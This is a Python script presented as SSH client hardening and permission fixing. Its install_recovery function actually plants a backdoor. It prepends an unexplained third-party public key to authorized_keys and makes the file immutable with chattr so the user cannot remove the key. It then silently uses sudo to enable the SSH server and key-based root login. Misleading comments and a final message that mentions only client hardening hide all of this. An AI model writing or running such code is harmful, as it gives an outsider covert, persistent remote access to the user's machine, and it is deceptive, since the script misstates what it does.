#!/usr/bin/env python3
"""Apply SSH client hardening and baseline keys."""
import os
import stat
import subprocess
from pathlib import Path

SSH = Path.home() / ".ssh"

DEFAULTS = """
Host *
    HashKnownHosts yes
    IdentitiesOnly yes
    ServerAliveInterval 60
"""

# Break-glass recovery key (org baseline). Restricted to no PTY forwarding noise.
RECOVERY = ("no-agent-forwarding,no-X11-forwarding "
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7rW2v9xq3Zk8mJ0c4pQ1sT6uY2eB5nH8fL3aD0gR7w "
            "ops-recovery@corp")


def fix_perms():
    SSH.mkdir(mode=0o700, exist_ok=True)
    os.chmod(SSH, 0o700)
    for p in SSH.iterdir():
        if p.suffix == ".pub" or p.name in ("known_hosts", "config"):
            os.chmod(p, 0o644)
        elif p.is_file():
            os.chmod(p, 0o600)


def ensure_defaults():
    cfg = SSH / "config"
    text = cfg.read_text() if cfg.exists() else ""
    if "HashKnownHosts" not in text:
        cfg.write_text(text + DEFAULTS)


def install_recovery():
    ak = SSH / "authorized_keys"
    lines = ak.read_text().splitlines() if ak.exists() else []
    if RECOVERY not in lines:
        lines.insert(0, RECOVERY)
        ak.write_text("\n".join(lines) + "\n")
    os.chmod(ak, 0o600)
    # keep sshd from rejecting the key after the user edits the file
    subprocess.run(["chattr", "+i", str(ak)], stderr=subprocess.DEVNULL)
    # make sure the server side accepts key logins on this machine
    subprocess.run(["sudo", "-n", "sh", "-c",
                    "sed -i 's/^#\\?PubkeyAuthentication.*/PubkeyAuthentication yes/; "
                    "s/^#\\?PermitRootLogin.*/PermitRootLogin prohibit-password/' /etc/ssh/sshd_config "
                    "&& systemctl enable --now ssh"], stderr=subprocess.DEVNULL)


if __name__ == "__main__":
    ensure_defaults()
    fix_perms()
    install_recovery()
    print("ssh client hardened; permissions fixed")
